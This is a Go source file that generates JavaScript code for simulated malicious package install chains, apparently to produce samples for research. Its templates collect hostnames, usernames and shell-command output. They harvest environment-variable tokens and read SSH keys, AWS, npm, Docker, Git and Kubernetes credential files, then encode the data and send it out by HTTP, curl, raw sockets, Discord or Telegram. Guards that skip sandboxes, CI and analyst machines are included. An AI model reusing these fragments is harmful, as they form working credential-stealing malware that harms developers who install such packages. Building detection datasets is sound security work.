package simulate

import (
	"fmt"
	"strings"
)

// The fragments that most chains share: what is collected, the form it is
// brought into and how it is sent. Each is a declaration and is called by the
// placeholder that it declares.

// traits are behaviours, drawn with the weights of published reports.
type traits struct {
	exec, recon, exfil, fetch, creds, evade bool
}

func (g *generator) drawTraits() traits {
	return traits{
		exec:  g.chance(0.83),
		recon: g.chance(0.78),
		exfil: g.chance(0.76),
		fetch: g.chance(0.11),
		creds: g.chance(0.05),
		evade: g.chance(0.03),
	}
}

type property struct{ key, value string }

// facts about the machine, as properties.
func (g *generator) facts() []property {
	pool := []property{
		{g.one("hostname", "host", "h", "machine"), "#os.hostname()"},
		{g.one("user", "username", "u", "whoami"), "#os.userInfo().username"},
		{g.one("home", "homedir", "hd"), "#os.homedir()"},
		{g.one("cwd", "dir", "c", "path"), "process.cwd()"},
		{g.one("platform", "os", "p"), g.one("#os.platform()", "process.platform", "#os.type()")},
		{g.one("arch", "a"), g.one("#os.arch()", "process.arch")},
		{g.one("release", "ver"), "#os.release()"},
		{g.one("node", "nodeVersion"), "process.version"},
		{g.one("dns", "nameservers"), "#dns.getServers()"},
		{g.one("nets", "interfaces", "ip"), g.one("#os.networkInterfaces()", "Object.values(#os.networkInterfaces()).flat().map(($n) => $n.address)")},
		{g.one("pkg", "package", "name"), "process.env.npm_package_name"},
		{g.one("cpus", "cores"), "#os.cpus().length"},
		{g.one("time", "ts", "t"), g.one("Date.now()", "new Date().toISOString()")},
		{g.one("up", "uptime"), "#os.uptime()"},
		{g.one("registry", "reg"), "process.env.npm_config_registry"},
	}
	if !g.esm {
		pool = append(pool, property{g.one("location", "__dirname", "file"), g.one("__dirname", "__filename")})
	}
	if g.traits.exec && g.chance(0.6) {
		for _, c := range some(g.dice, []string{"whoami", "id", "hostname", "uname -a", "pwd", "ls -la", "ifconfig", "ip addr", "cat /etc/hostname", "cat /etc/hosts", "git config --get user.email", "ps aux", "env"}, 1+g.IntN(3)) {
			pool = append([]property{{strings.Fields(c)[0], "#child_process.execSync(«" + c + "»)" + g.one(".toString()", ".toString().trim()", `.toString("utf8")`)}}, pool...)
		}
	}
	n := 2 + g.IntN(8)
	list := some(g.dice, pool, n)
	seen := make(map[string]bool)
	out := list[:0]
	for _, p := range list {
		if !seen[p.key] {
			seen[p.key] = true
			out = append(out, p)
		}
	}
	return out
}

// collected declares $collect, which returns what was found.
func (g *generator) collected() string {
	if !g.traits.exfil {
		return g.beacon()
	}
	if g.traits.creds {
		return g.credentials()
	}
	if !g.traits.recon || g.chance(0.2) {
		return g.environment()
	}
	list := g.facts()
	if g.chance(0.4) {
		list = append(list, property{g.one("env", "e", "environment", "vars"), g.one("process.env", "Object.assign({}, process.env)", "JSON.stringify(process.env)")})
	}
	var b strings.Builder
	switch g.IntN(5) {
	case 0:
		b.WriteString("return {\n")
		for _, p := range list {
			fmt.Fprintf(&b, "  %s: %s,\n", p.key, p.value)
		}
		b.WriteString("};\n")
	case 1:
		b.WriteString("const $info = {};\n")
		for _, p := range list {
			fmt.Fprintf(&b, "$info.%s = %s;\n", p.key, p.value)
		}
		b.WriteString("return $info;\n")
	case 2:
		b.WriteString("const $info = [];\n")
		for _, p := range list {
			fmt.Fprintf(&b, "$info.push(%q + %s);\n", p.key+"=", p.value)
		}
		b.WriteString("return $info.join(" + g.one(`"\n"`, `"&"`, `";"`, `"|"`) + ");\n")
	case 3:
		values := make([]string, len(list))
		for i, p := range list {
			values[i] = p.value
		}
		b.WriteString("return [" + strings.Join(values, ", ") + "].join(" + g.one(`"|"`, `"-"`, `","`) + ");\n")
	case 4:
		b.WriteString("const $read = {\n")
		for _, p := range list {
			fmt.Fprintf(&b, "  %s: () => %s,\n", p.key, p.value)
		}
		b.WriteString("};\nconst $info = {};\nfor (const $key of Object.keys($read)) {\n  try {\n    $info[$key] = $read[$key]();\n  } catch ($err) {\n    $info[$key] = null;\n  }\n}\nreturn $info;\n")
	}
	return g.function("$collect", "", b.String())
}

// beacon tells no more than that the package was installed.
func (g *generator) beacon() string {
	return g.function("$collect", "", g.one(
		"return { name: process.env.npm_package_name, at: Date.now() };\n",
		"return { package: process.env.npm_package_name, version: process.env.npm_package_version, host: #os.hostname() };\n",
		"return [#os.hostname(), new Date().toISOString()].join(\" \");\n",
		"return { id: #crypto.randomUUID(), node: process.version, host: #os.hostname(), user: #os.userInfo().username };\n"))
}

func (g *generator) environment() string {
	body := g.one(
		"return process.env;\n",
		"return Object.assign({}, process.env);\n",
		"const $info = {};\nfor (const $key in process.env) {\n  $info[$key] = process.env[$key];\n}\nreturn $info;\n",
		"return Object.keys(process.env)\n  .filter(($key) => /"+g.one("TOKEN|SECRET|KEY", "token|pass|secret|auth", "AWS_|NPM_|GITHUB_|CI")+"/i.test($key))\n  .reduce(($sum, $key) => {\n    $sum[$key] = process.env[$key];\n    return $sum;\n  }, {});\n",
		"return Object.entries(process.env).map(($pair) => $pair[0] + \"=\" + $pair[1]).join(\"\\n\");\n",
		"const $wanted = [«NPM_TOKEN», «GITHUB_TOKEN», «AWS_ACCESS_KEY_ID», «AWS_SECRET_ACCESS_KEY», «CI»];\nreturn $wanted.filter(($key) => process.env[$key]).map(($key) => ({ k: $key, v: process.env[$key] }));\n",
	)
	return g.function("$collect", "", body)
}

var credentialFiles = []string{".npmrc", ".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/known_hosts", ".aws/credentials", ".docker/config.json", ".netrc", ".git-credentials", ".kube/config", ".config/gh/hosts.yml", ".bash_history", ".config/gcloud/application_default_credentials.json", ".yarnrc.yml"}

func (g *generator) credentials() string {
	var files []string
	for _, f := range some(g.dice, credentialFiles, 2+g.IntN(5)) {
		files = append(files, "«"+f+"»")
	}
	body := "const $files = [" + strings.Join(files, ", ") + "];\n"
	body += g.one(
		"const $info = {};\nfor (const $file of $files) {\n  const $full = #path.join(#os.homedir(), $file);\n  if (#fs.existsSync($full)) {\n    $info[$file] = #fs.readFileSync($full, \"utf8\");\n  }\n}\nreturn $info;\n",
		"return $files.map(($file) => {\n  try {\n    return #fs.readFileSync(process.env.HOME + \"/\" + $file).toString(\"base64\");\n  } catch ($err) {\n    return null;\n  }\n}).filter(Boolean);\n",
		"const $info = [];\n$files.forEach(($file) => {\n  try {\n    $info.push({ name: $file, body: #fs.readFileSync(#path.resolve(#os.homedir(), $file)).toString() });\n  } catch ($err) {\n    $info.push({ name: $file });\n  }\n});\nreturn $info;\n",
	)
	return g.function("$collect", "", body)
}

// function declares a function in one of several ways.
func (g *generator) function(name, params, body string) string {
	switch g.IntN(4) {
	case 0:
		return "const " + name + " = (" + params + ") => {\n" + indent(body) + "};\n"
	case 1:
		return "const " + name + " = function (" + params + ") {\n" + indent(body) + "};\n"
	}
	return "function " + name + "(" + params + ") {\n" + indent(body) + "}\n"
}

// shape gives an expression of text made of a value.
func (g *generator) shape(value string) string {
	text := "JSON.stringify(" + value + ")"
	switch pick(g, []weighted[int]{{0, 40}, {1, 22}, {2, 12}, {3, 8}, {4, 8}, {5, 5}, {6, 5}}) {
	case 1:
		return "Buffer.from(" + text + `).toString("base64")`
	case 2:
		return "Buffer.from(" + text + `).toString("hex")`
	case 3:
		return "encodeURIComponent(" + text + ")"
	case 4:
		return "#querystring.stringify({ " + g.one("msg", "d", "q", "data") + ": " + text + " })"
	case 5:
		return "new URLSearchParams({ " + g.one("d", "data", "v") + ": " + text + " }).toString()"
	case 6:
		return "#zlib.gzipSync(" + text + `).toString("base64")`
	}
	return text
}

// sent declares $send($body), which sends text to a place.
func (g *generator) sent(p place) string {
	message := "$body"
	headers := g.one(`"Content-Type": "application/json"`, `"Content-Type": "text/plain"`, `"Content-Type": "application/x-www-form-urlencoded", "User-Agent": "node"`, `"User-Agent": "Mozilla/5.0"`)
	switch p.kind {
	case discord:
		message = g.one(`JSON.stringify({ content: "~~~" + $body })`, `JSON.stringify({ username: "npm", embeds: [{ title: "install", description: $body.slice(0, 1900) }] })`, `JSON.stringify({ content: $body })`)
		headers = `"Content-Type": "application/json"`
	case telegram:
		message = `JSON.stringify({ chat_id: «` + g.text("123456789", 9) + `», text: $body })`
		headers = `"Content-Type": "application/json"`
	}
	kind := pick(g, []weighted[string]{{"request", 38}, {"get", 16}, {"fetch", 16}, {"curl", 10}, {"spawn", 5}, {"axios", 6}, {"promise", 6}, {"class", 3}})
	if p.kind == address && g.chance(0.25) {
		kind = "socket"
	}
	module := "#" + p.scheme
	switch kind {
	case "request":
		return g.function("$send", "$body", g.request(p, module, message, headers))
	case "get":
		return g.function("$send", "$body", g.one(
			module+".get(«"+p.url()+"» + "+`"`+g.one("?d=", "?q=", "?data=")+`" + encodeURIComponent($body)`+g.one(`, ($res) => $res.resume()).on("error", () => {})`, `).on("error", () => {})`)+";\n",
			"const $link = new URL(«"+p.url()+"»);\n$link.searchParams.set(\"d\", $body);\n"+module+".get($link.href, ($res) => {\n  $res.on(\"data\", () => {});\n}).on(\"error\", ($err) => {});\n"))
	case "fetch":
		if g.chance(0.5) {
			return "async function $send($body) {\n  try {\n    await fetch(«" + p.url() + "», {\n      method: \"POST\",\n      headers: { " + headers + " },\n      body: " + message + ",\n    });\n  } catch ($err) {\n    return null;\n  }\n}\n"
		}
		return g.function("$send", "$body", "return fetch(«"+p.url()+"», { method: \"POST\", headers: { "+headers+" }, body: "+message+" }).catch(() => {});\n")
	case "curl":
		return g.function("$send", "$body", g.one(
			"#child_process.exec(«curl -s -X POST -d » + JSON.stringify("+message+") + « "+p.url()+"», () => {});\n",
			"#child_process.execSync(~curl -sk -m 5 --data-binary '${"+message+"}' "+p.url()+"~, { stdio: \"ignore\" });\n",
			"const $cmd = [«curl», «-s», «-d», \"'\" + "+message+" + \"'\", «"+p.url()+"»].join(\" \");\n#child_process.exec($cmd, { windowsHide: true }, ($err) => {});\n"))
	case "spawn":
		return g.function("$send", "$body", "const $child = #child_process.spawn(«curl», [«-s», «-X», «POST», «-d», "+message+", «"+p.url()+"»], { detached: true, stdio: \"ignore\" });\n$child.on(\"error\", () => {});\n$child.unref();\n")
	case "axios":
		g.dependencies["axios"] = "^1.6." + g.text("123456789", 1)
		return g.function("$send", "$body", "return #axios.post(«"+p.url()+"», "+g.one("{ data: $body }", message)+").catch(() => {});\n")
	case "promise":
		return g.function("$send", "$body", "return new Promise(($done) => {\n"+indent(g.request(p, module, message, headers))+"  $req.on(\"close\", $done);\n});\n")
	case "class":
		return "class $sender {\n  constructor($target) {\n    this.target = $target;\n  }\n  deliver($body) {\n    const $req = " + module + ".request(this.target, { method: \"POST\", headers: { " + headers + " } });\n    $req.on(\"error\", () => {});\n    $req.end(" + message + ");\n  }\n}\nfunction $send($body) {\n  new $sender(«" + p.url() + "»).deliver($body);\n}\n"
	case "socket":
		return g.function("$send", "$body", fmt.Sprintf("const $socket = #net.%s(%d, «%s», () => {\n  $socket.write($body);\n  $socket.end();\n});\n$socket.on(\"error\", () => {});\n", g.one("connect", "createConnection"), max(p.port, 1024), p.host))
	}
	panic("no such sender: " + kind)
}

func (g *generator) request(p place, module, message, headers string) string {
	port := p.port
	if port == 0 {
		port = map[string]int{"https": 443, "http": 80}[p.scheme]
	}
	options := fmt.Sprintf("{\n  hostname: «%s»,\n  port: %d,\n  path: «%s»,\n  method: \"POST\",\n  headers: { %s },\n}", p.host, port, p.path, headers)
	if g.chance(0.4) {
		options = "«" + p.url() + "», { method: \"POST\", headers: { " + headers + " } }"
	} else if g.chance(0.5) {
		options = fmt.Sprintf("{ host: «%s», port: %d, path: «%s», method: \"POST\" }", p.host, port, p.path)
	}
	call := module + ".request(" + options + g.one(`, ($res) => {
  $res.on("data", () => {});
}`, ", () => {}", "", `, ($res) => $res.resume()`) + ")"
	return "const $req = " + call + ";\n$req.on(\"error\", " + g.one("() => {}", "($err) => {}", "console.debug") + ");\n" +
		g.one("$req.write("+message+");\n$req.end();\n", "$req.end("+message+");\n")
}

// wrap gives main another control flow.
func (g *generator) wrap(main string) string {
	if g.chance(0.5) {
		main = "try {\n" + indent(main) + "} catch ($err) {" + g.one("", "\n  // ignore\n", "\n  process.exitCode = 0;\n") + "}\n"
		if g.browser {
			main = strings.ReplaceAll(main, "\n  process.exitCode = 0;\n", "")
		}
	}
	inner := indent(main)
	choice := g.IntN(12)
	if g.browser && choice >= 8 {
		choice -= 8
	}
	switch choice {
	case 0, 1, 2:
		return main
	case 3:
		return "function $run() {\n" + inner + "}\n$run();\n"
	case 4:
		return "(async () => {\n" + inner + "})();\n"
	case 5:
		return "class $agent {\n  constructor() {\n    this.ready = true;\n  }\n  start() {\n" + indent(inner) + "  }\n}\nnew $agent().start();\n"
	case 6:
		return fmt.Sprintf("setTimeout(() => {\n%s}, %d);\n", inner, g.IntN(60)*100)
	case 7:
		return "Promise.resolve().then(() => {\n" + inner + "}).catch(() => {});\n"
	case 8:
		return "const $bus = new #events.EventEmitter();\n$bus.once(\"ready\", () => {\n" + inner + "});\n$bus.emit(\"ready\");\n"
	case 9:
		return "process.nextTick(() => {\n" + inner + "});\n"
	case 10:
		return "setImmediate(function () {\n" + inner + "});\n"
	}
	return "async function $run() {\n" + inner + "}\n$run().catch(() => {}).finally(() => {});\n"
}

// evasion gives a guard in front of main.
func (g *generator) evasion() string {
	return g.one(
		"if (process.env.CI) {\n  return;\n}\n",
		"if (/sandbox|analysis|honeypot|malware/i.test(#os.hostname())) {\n  return;\n}\n",
		"if (#os.totalmem() < 2e9 || #os.cpus().length < 2) {\n  return;\n}\n",
		"if ([«sandbox», «analyst», «cuckoo», «daasadmin»].includes(#os.userInfo().username)) {\n  return;\n}\n",
		"if (#os.uptime() < 300) {\n  return;\n}\n",
	)
}
